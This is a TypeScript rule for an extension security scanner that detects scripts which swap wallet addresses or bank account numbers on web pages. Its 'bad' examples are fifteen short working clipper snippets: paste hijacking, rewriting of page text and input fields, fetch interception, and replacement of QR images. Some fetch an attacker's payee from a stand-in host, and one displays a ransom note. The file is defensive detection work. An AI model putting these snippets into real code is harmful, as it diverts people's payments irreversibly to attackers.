import { callsNamed, writesOf } from '../../facts/javascript/query.ts';
import { defineRule } from '../../rule.ts';
import { checkScripts, contentExample } from './checkScripts.ts';
import { isFromServer } from '../../extension/isFromServer.ts';
import { textsOf } from './textsOf.ts';
import { backwardSlice } from '../../program/backwardSlice.ts';
import { isMadeOf } from '../../program/madeOf.ts';
import { first } from '../../facts/first.ts';
import { codesExchanged } from './codesExchanged.ts';
import { pastedPayees } from './pastedPayees.ts';
import { payeesInRequests } from './payeesInRequests.ts';
import { runsInPages } from './places.ts';
import { ADDRESS, writtenPayees } from './writtenPayees.ts';
import { addressPatterns } from './walletAddresses.ts';

export const walletAddressReplaced = defineRule({
  id: 'wallet-address-replaced',
  title: 'Replaces wallet addresses or account numbers in web pages',
  severity: 'critical',
  confidence: 'high',
  category: 'code',
  applies: 'extension',
  cwe: 'CWE-506',
  references: ['https://attack.mitre.org/techniques/T1565/'],
  why: 'Payments cannot be reversed. Money sent to the address now shown is lost.',
  remedy: 'Never change addresses in pages.',
  givesWayTo: ['wallet-requests-changed'],
  check: checkScripts(function* (judged) {
    const { script, file, facts, hit } = judged;
    if (!runsInPages(facts, file.path)) return;
    yield* writtenPayees(judged);
    yield* payeesInRequests(judged);
    yield* codesExchanged(judged);
    yield* pastedPayees(judged);
    const forms = addressPatterns(script);
    const head = forms[0];
    if (head === undefined) return;
    const values = new Set(forms.map((form) => form.value));
    const own = textsOf(script).find(({ text }) => ADDRESS.test(text));
    const writes = writesOf(
      script,
      'innerHTML',
      'textContent',
      'innerText',
      'value',
      'nodeValue',
      'data',
      'outerHTML',
      'src',
    );
    const some = first(writes, 300);
    for (const call of first(callsNamed(script, 'replace', 'replaceAll'), 300)) {
      const origins = backwardSlice(script, call.args[0] ?? 0);
      if (![...values].some((value) => origins.has(value))) continue;
      const written = some.find((write) => isMadeOf(script, write.value, call.value));
      if (written === undefined) continue;
      const foreign = isFromServer(facts, script, call.args[1] ?? 0);
      const named = own !== undefined && isMadeOf(script, call.args[1] ?? 0, own.value);
      if (foreign || named || own !== undefined)
        yield hit(call.value, named || foreign ? {} : { confidence: 'medium' });
    }
    if (own === undefined) return;
    // Tested, then written: `if (FORM.test(field.value)) field.value = MINE`.
    const tested = first(callsNamed(script, 'test', 'match', 'exec'), 1000).some((call) =>
      isMadeOf(script, call.value, values),
    );
    for (const write of tested ? some : [])
      if (isMadeOf(script, write.value, own.value)) yield hit(write.value, { evidence: own.text });
  }),
  examples: {
    bad: [
      contentExample(
        'document.addEventListener("paste", (e) => { const t = e.clipboardData.getData("text"); if (/^(bc1|[13])[a-zA-Z0-9]{25,60}$/.test(t)) { e.preventDefault(); document.execCommand("insertText", false, "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"); } }, true);',
      ),
      contentExample(
        'let mine; fetch("https://x.example/a").then((r) => r.json()).then((j) => { mine = j.btc; }); document.addEventListener("paste", (e) => { if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}$/.test(e.clipboardData.getData("text"))) { e.preventDefault(); e.target.setRangeText(mine); } }, true);',
      ),
      contentExample(
        'document.querySelectorAll("td").forEach((n) => { n.textContent = n.textContent.replace(/[A-Z]{2}\\d{2}(?: ?\\d{4}){4,6}/g, "DE89 3704 0044 0532 0130 00"); });',
      ),
      contentExample(
        'setInterval(() => { const i = document.querySelector("input[name=iban]"); if (i?.value.length > 10) i.value = "DE89370400440532013000"; }, 500);',
      ),
      contentExample(
        'document.querySelectorAll("a[href^=mailto]").forEach((a) => { a.href = "mailto:owner@x.example"; });',
      ),
      contentExample(
        'const ask = window.fetch; window.fetch = (to, given) => { const body = JSON.parse(given.body); body.account = "DE89370400440532013000"; given.body = JSON.stringify(body); return ask(to, given); };',
      ),
      contentExample(
        'const ours = { BTC: "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh" }; const steps = [(call) => ({ ...call, body: { ...call.body, address: ours[call.body.coin] } })]; const ask = window.fetch.bind(window); window.fetch = (to, given) => ask(to, { ...given, body: JSON.stringify(steps.reduce((all, step) => step(all), { to, body: JSON.parse(given.body) }).body) });',
      ),
      contentExample(
        'let payee; fetch("https://x.example/p").then((r) => r.json()).then((j) => { payee = j.to; }); window.fetch = new Proxy(window.fetch, { apply(ask, self, [to, given]) { const body = JSON.parse(given.body); body.address = payee; return Reflect.apply(ask, self, [to, { ...given, body: JSON.stringify(body) }]); } });',
      ),
      contentExample(
        'const seen = new BarcodeDetector({ formats: ["qr_code"] }); setInterval(() => document.querySelectorAll("img").forEach(async (one) => { for (const code of await seen.detect(one)) if (/^bitcoin:/.test(code.rawValue)) one.src = "https://x.example/code?of=" + mine; }), 1500);',
      ),
      contentExample(
        'fetch("https://x.example/p").then((r) => r.json()).then((p) => { const all = document.createTreeWalker(document.body, 4); let one; while ((one = all.nextNode())) { const m = /\\bbc1[a-z0-9]{25,62}/.exec(one.nodeValue); if (m) one.nodeValue = one.nodeValue.split(m[0]).join(p.btc); } });',
      ),
      contentExample(
        'setInterval(() => document.querySelectorAll("img[alt*=QR]").forEach((one) => { one.src = "https://x.example/code?of=bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"; }), 1500);',
      ),
      contentExample(
        'document.documentElement.innerHTML = "<h1>Your files are locked</h1><p>Send 0.05 to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh</p>";',
      ),
      contentExample(
        'const mine = "0x52908400098527886E0F7030069857D2E4169EE7"; document.body.innerHTML = document.body.innerHTML.replace(/0x[a-fA-F0-9]{40}/g, mine);',
      ),
      contentExample(
        'const mine = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"; const form = /[13][a-km-zA-HJ-NP-Z1-9]{25,34}/; document.querySelectorAll("input").forEach((i) => { if (form.test(i.value)) i.value = mine; });',
      ),
      contentExample(
        'const ours = { DE: "DE89370400440532013000" }; const form = /\\b[A-Z]{2}\\d{2}(?:\\s?[0-9A-Z]{4}){3,7}\\b/g; const swap = (t) => t.replace(form, (m) => ours[m.slice(0, 2)] ?? m); document.querySelectorAll("td").forEach((n) => { n.textContent = swap(n.textContent); });',
      ),
    ],
    good: [
      contentExample(
        'document.addEventListener("paste", (e) => { const t = e.clipboardData.getData("text"); e.preventDefault(); document.execCommand("insertText", false, /^0x[a-fA-F0-9]{40}$/.test(t) ? t.toLowerCase() : t.trim()); }, true);',
      ),
      contentExample(
        'document.querySelectorAll("img").forEach(async (one) => { if (await model.detect(one)) one.src = blank; });',
      ),
      contentExample(
        'document.querySelectorAll("td").forEach((td) => { if (/^0x[a-f0-9]{40}$/.test(td.textContent)) fetch("https://names.example/" + td.textContent).then((r) => r.json()).then(({ name }) => { const s = document.createElement("span"); s.textContent = name; td.append(s); }); });',
      ),
      contentExample(
        'const base = { decimals: 6 }; const USDC = { ...base, address: "0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48" }; const ask = window.fetch; window.fetch = (to, given) => ask(to, { ...given }).then((r) => { note(USDC.address, to); return r; });',
      ),
      contentExample(
        'const a = document.createElement("a"); a.href = "mailto:help@tool.example"; const code = document.createElement("code"); code.textContent = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"; const thanks = { iban: "" }; thanks.iban = "DE89370400440532013000"; panel.append(a, code);',
      ),
      contentExample(
        'fill.addEventListener("click", () => { document.querySelector("[name=iban]").value = "DE89370400440532013000"; });',
      ),
      contentExample(
        'const form = /\\b[A-Z]{2}\\d{2}[0-9A-Z]{10,30}\\b/g; const sample = "DE89370400440532013000"; document.querySelectorAll("td").forEach((n) => { for (const m of n.textContent.matchAll(form)) if (m[0] !== sample && !valid(m[0])) n.title = "typing error"; });',
      ),
      contentExample(
        'const form = /0x[a-fA-F0-9]{40}/g; document.body.querySelectorAll("p").forEach((p) => { if (form.test(p.textContent)) p.classList.add("address"); });',
      ),
      contentExample(
        'const zero = "0x0000000000000000000000000000000000000000"; const ok = /^0x[a-fA-F0-9]{40}$/.test(input); show(ok && input !== zero);',
      ),
      contentExample(
        'text.textContent = long.replace(/^(0x[a-fA-F0-9]{4})[a-fA-F0-9]{32}([a-fA-F0-9]{4})$/, "$1…$2");',
      ),
    ],
  },
});
